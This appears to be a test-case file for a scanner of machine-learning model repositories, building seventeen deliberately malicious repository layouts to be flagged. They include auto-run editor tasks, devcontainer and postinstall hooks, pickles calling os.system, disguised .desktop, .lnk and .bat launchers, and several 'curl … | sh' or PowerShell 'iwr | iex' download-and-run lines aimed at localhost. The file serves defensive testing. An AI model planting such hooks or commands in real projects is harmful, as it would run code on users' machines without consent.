import type { DetectCase } from '../case.ts';
import { bin, hex, u32, zeros } from '../blind/bytes.ts';
import { modeling, remote, weights } from '../blind/code.ts';
import { bad, ECHO, type Files } from '../blind/make.ts';
import { call, pk, ref } from '../blind/pickle.ts';
import { bert, index } from '../blind/repositories.ts';
import { four, safetensors } from '../blind/tensors.ts';
import { json } from '../blind/templates.ts';
import { legacy, legacyState, stateDict, torchZip } from '../blind/torch.ts';
import { zip } from '../blind/zip.ts';
import { unpackToo } from './packed.ts';

const system = call(ref('posix', 'system'), ECHO);
const torch = (): Uint8Array => torchZip(pk(stateDict(['extra', system]), 2));
const model = (more: Files): Files => ({ 'config.json': bert(), 'model.safetensors': weights(), ...more });
const elf = bin(0x7f, 'ELF', 2, 1, 1, zeros(9), [3, 0, 0x3e, 0, 1, 0, 0, 0], zeros(44));

const table: ReadonlyArray<readonly [string, string, () => Files]> = [
  [
    'editor-task',
    'opening the folder in an editor runs a command',
    () =>
      model({
        '.vscode/tasks.json': json({
          version: '2.0.0',
          tasks: [
            {
              label: 'prepare',
              type: 'shell',
              command: 'curl -s http://127.0.0.1/x | sh',
              runOptions: { runOn: 'folderOpen' },
            },
          ],
        }),
      }),
  ],
  [
    'dev-container',
    'opening the folder in a container runs a command',
    () =>
      model({
        '.devcontainer/devcontainer.json': json({
          image: 'python:3.11',
          postCreateCommand: 'curl -s http://127.0.0.1/x | bash',
        }),
      }),
  ],
  [
    'package-script',
    'installing the package of the browser demo runs a command',
    () =>
      model({
        'package.json': json({
          name: 'tiny-demo',
          version: '1.0.0',
          scripts: { postinstall: "node -e \"require('child_process').exec('curl http://127.0.0.1/x | sh')\"" },
        }),
      }),
  ],
  [
    'submodule',
    'a submodule whose address is a command',
    () => model({ '.gitmodules': bin('[submodule "data"]\n\tpath = data\n\turl = ext::sh -c echo% pwned\n') }),
  ],
  [
    'path-file',
    'a file that Python runs at each start, and the module it names',
    () =>
      model({
        'zz_tiny.pth': bin('import os; os.system("echo pwned")\n'),
        'setup.cfg': bin('[options]\ndata_files = zz_tiny.pth\n'),
      }),
  ],
  [
    'desktop',
    'a launcher that looks like a document',
    () =>
      model({
        'README.pdf.desktop': bin(
          '[Desktop Entry]\nType=Application\nName=README.pdf\nIcon=application-pdf\nExec=sh -c "curl http://127.0.0.1/x | sh"\n',
        ),
      }),
  ],
  [
    'shortcut',
    'a Windows shortcut that starts a shell',
    () =>
      model({
        'Model card.lnk': bin(
          u32(76),
          hex('0114020000000000c000000000000046'),
          u32(0x21),
          zeros(52),
          Array.from('cmd.exe /c echo pwned', (c) => [c, 0]),
        ),
      }),
  ],
  [
    'hidden-cache',
    'a pickle that runs a command lies in a hidden folder',
    () => model({ '.cache/huggingface/state.pkl': pk(system, 4) }),
  ],
  [
    'adapter-beside',
    'the adapter is there as safetensors and as a pickle that runs a command',
    () => ({
      'adapter_config.json': json({ peft_type: 'LORA', base_model_name_or_path: 'example/tiny', r: 4 }),
      'adapter_model.safetensors': weights(),
      'adapter_model.bin': torch(),
    }),
  ],
  [
    'notebook',
    'a cell of the notebook fetches a script and runs it',
    () =>
      model({
        'quickstart.ipynb': json({
          cells: [
            {
              cell_type: 'code',
              execution_count: null,
              metadata: {},
              outputs: [],
              source: ['import os\n', 'os.system("curl -s http://127.0.0.1/x | sh")'],
            },
          ],
          metadata: { kernelspec: { name: 'python3' } },
          nbformat: 4,
          nbformat_minor: 5,
        }),
      }),
  ],
  [
    'third-shard',
    'two shards are safetensors, the index sends the loader to a pickle for the third',
    () => ({
      'config.json': bert(),
      'pytorch_model.bin.index.json': index(
        {
          a: 'model-00001-of-00003.safetensors',
          b: 'model-00002-of-00003.safetensors',
          c: 'pytorch_model-00003-of-00003.bin',
        },
        48,
      ),
      'model-00001-of-00003.safetensors': safetensors([{ name: 'a', shape: [4] }], four),
      'model-00002-of-00003.safetensors': safetensors([{ name: 'b', shape: [4] }], four),
      'pytorch_model-00003-of-00003.bin': torch(),
    }),
  ],
  [
    'concept',
    'a learned concept beside its pictures runs a command',
    () => ({
      'learned_embeds.bin': torch(),
      'token_identifier.txt': bin('<tiny>\n'),
      'README.md': bin('# <tiny> on Stable Diffusion\n'),
    }),
  ],
  [
    'custom-operators',
    'the export comes with a native library of operators',
    () => model({ 'onnx/libcustom_ops.so': elf, 'onnx/README.md': bin('Load libcustom_ops.so before the model.\n') }),
  ],
  [
    'bytecode',
    'only the compiled form of the model code is there',
    () => {
      const { 'modeling_tiny.py': _, ...rest } = remote(modeling({}));
      return { ...rest, '__pycache__/modeling_tiny.cpython-311.pyc': unpackToo('bytecode') };
    },
  ],
  [
    'double-name',
    'a batch file has the name of a document',
    () => model({ 'README.md.bat': bin('@echo off\r\npowershell -w hidden -c "iwr http://127.0.0.1/x | iex"\r\n') }),
  ],
  [
    'java',
    'an archive of Java classes starts a program',
    () =>
      model({
        'tools/convert.jar': zip([
          { name: 'META-INF/MANIFEST.MF', data: bin('Manifest-Version: 1.0\r\nMain-Class: Pwned\r\n') },
          {
            name: 'Pwned.class',
            data: bin(hex('cafebabe00000034'), zeros(32), 'java/lang/Runtime', 'exec', 'echo pwned'),
          },
        ]),
      }),
  ],
  [
    'old-checkpoint',
    'a checkpoint of an older run, two folders down, runs a command',
    () => model({ 'runs/v0/best.pth': legacy(pk(legacyState(['args', system]), 2)) }),
  ],
];

export const repositoryCases: readonly DetectCase[] = table.map(([name, title, build]) =>
  bad('repository', name, 'repository', title, build),
);
